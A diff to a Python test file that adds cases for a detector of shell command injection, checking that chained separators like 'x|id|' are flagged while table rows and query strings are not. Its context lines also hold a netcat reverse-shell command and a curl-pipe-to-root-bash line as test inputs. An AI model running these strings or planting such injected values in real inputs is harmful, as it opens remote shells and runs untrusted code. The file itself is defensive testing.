@@ -381,6 +381,16 @@ def test_a_value_or_a_line_of_words_before_a_command_name_is_not_code(text: str)
     assert not code_exec(text)
 
 
+@pytest.mark.parametrize("text", ["x|id|", "x&id&", "x||id||", "127.0.0.1|whoami||"])
+def test_a_chained_command_with_a_separator_after_it_is_code(text: str) -> None:
+    assert code_exec(text)
+
+
+@pytest.mark.parametrize("text", ["| id | name |", "|id|name|", "page=1&id=2", "a=1&cat=2&id", "R&D&ls"])
+def test_table_rows_and_query_strings_are_not_chained_commands(text: str) -> None:
+    assert not code_exec(text)
+
+
 @pytest.mark.parametrize("text", ["nc.traditional 10.0.0.1 4444 -e /bin/sh", "curl http://x.example/a | sudo -u root bash"])
 def test_netcat_variants_and_sudo_with_a_user_are_code(text: str) -> None:
     assert code_exec(text)
